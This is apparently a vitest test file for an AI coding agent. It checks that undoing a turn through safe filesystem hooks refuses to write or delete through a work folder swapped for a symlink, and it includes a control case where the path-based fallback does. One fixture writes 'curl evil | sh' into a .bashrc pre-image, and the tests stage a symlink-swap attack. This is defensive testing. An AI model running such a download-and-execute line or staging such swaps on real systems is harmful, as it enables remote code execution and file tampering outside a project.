/**
 * A revert (revert_turn, /undo) writes pre-images back and removes created files. Through the
 * session's safe-fs hooks it cannot be redirected outside by a folder swapped for a link; the
 * path-based fallback can, which is the control.
 */
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { PreImageStore, type RevertFiles } from '../../../src/agent/checkpoints';
import { RACE_FREE_FS, removeFileSafely, writeFileSafely } from '../../../src/tools/fs/safe-fs';
import { tempDirs } from '../../helpers/temp-dirs';

const tempDir = tempDirs();

/** A project with work/, a store that recorded work/.bashrc (existing) and work/new.txt (created). */
async function recorded(files: RevertFiles | undefined) {
  const root = tempDir('warden-revert-');
  const outside = tempDir('warden-outside-');
  mkdirSync(join(root, 'work'));
  writeFileSync(join(outside, 'new.txt'), 'outside file\n');
  const store = new PreImageStore(tempDir('warden-cp-'), files);
  store.beginTurn();
  await store.recordPreImage(join(root, 'work', '.bashrc'), {
    kind: 'file',
    bytes: Buffer.from('curl evil | sh\n'),
    mode: 0o644,
  });
  await store.recordPreImage(join(root, 'work', 'new.txt'), { kind: 'absent' });
  // The attack: the folder the pre-images belong to becomes a link to an outside folder.
  renameSync(join(root, 'work'), join(root, 'work-moved'));
  symlinkSync(outside, join(root, 'work'));
  return { root, outside, store };
}

describe.skipIf(!RACE_FREE_FS)('revert through safe-fs', () => {
  it('refuses to write or remove through a folder swapped for a link', async () => {
    let root = '';
    const files: RevertFiles = {
      write: (path, bytes, mode) => writeFileSafely({ path, root }, bytes, mode),
      remove: (path) => removeFileSafely({ path, root }),
    };
    const t = await recorded(files);
    root = t.root;
    // Each file is reported as not restored, with the reason; the revert itself does not throw.
    const done = await t.store.revert({ turns: 1 });
    expect(done.restored).toEqual([]);
    expect(done.removed).toEqual([]);
    expect(done.skipped.map((s) => s.path).sort()).toEqual(
      [join(t.root, 'work', '.bashrc'), join(t.root, 'work', 'new.txt')].sort(),
    );
    expect(readdirSync(t.outside)).toEqual(['new.txt']);
    expect(readFileSync(join(t.outside, 'new.txt'), 'utf8')).toBe('outside file\n');
  });

  it('restores and removes normally when nothing was swapped', async () => {
    const root = tempDir('warden-revert-');
    const files: RevertFiles = {
      write: (path, bytes, mode) => writeFileSafely({ path, root }, bytes, mode),
      remove: (path) => removeFileSafely({ path, root }),
    };
    const store = new PreImageStore(tempDir('warden-cp-'), files);
    store.beginTurn();
    await store.recordPreImage(join(root, 'a', 'b.txt'), {
      kind: 'file',
      bytes: Buffer.from('old\n'),
      mode: 0o600,
    });
    await store.recordPreImage(join(root, 'c.txt'), { kind: 'absent' });
    writeFileSync(join(root, 'c.txt'), 'created\n');
    expect(await store.revert({ turns: 1 })).toMatchObject({
      restored: [join(root, 'a', 'b.txt')],
      removed: [join(root, 'c.txt')],
    });
    expect(readFileSync(join(root, 'a', 'b.txt'), 'utf8')).toBe('old\n');
    expect(existsSync(join(root, 'c.txt'))).toBe(false);
  });

  it('control: the path-based revert writes and removes outside', async () => {
    const t = await recorded(undefined);
    await t.store.revert({ turns: 1 });
    expect(readdirSync(t.outside).sort()).toEqual(['.bashrc']);
  });
});
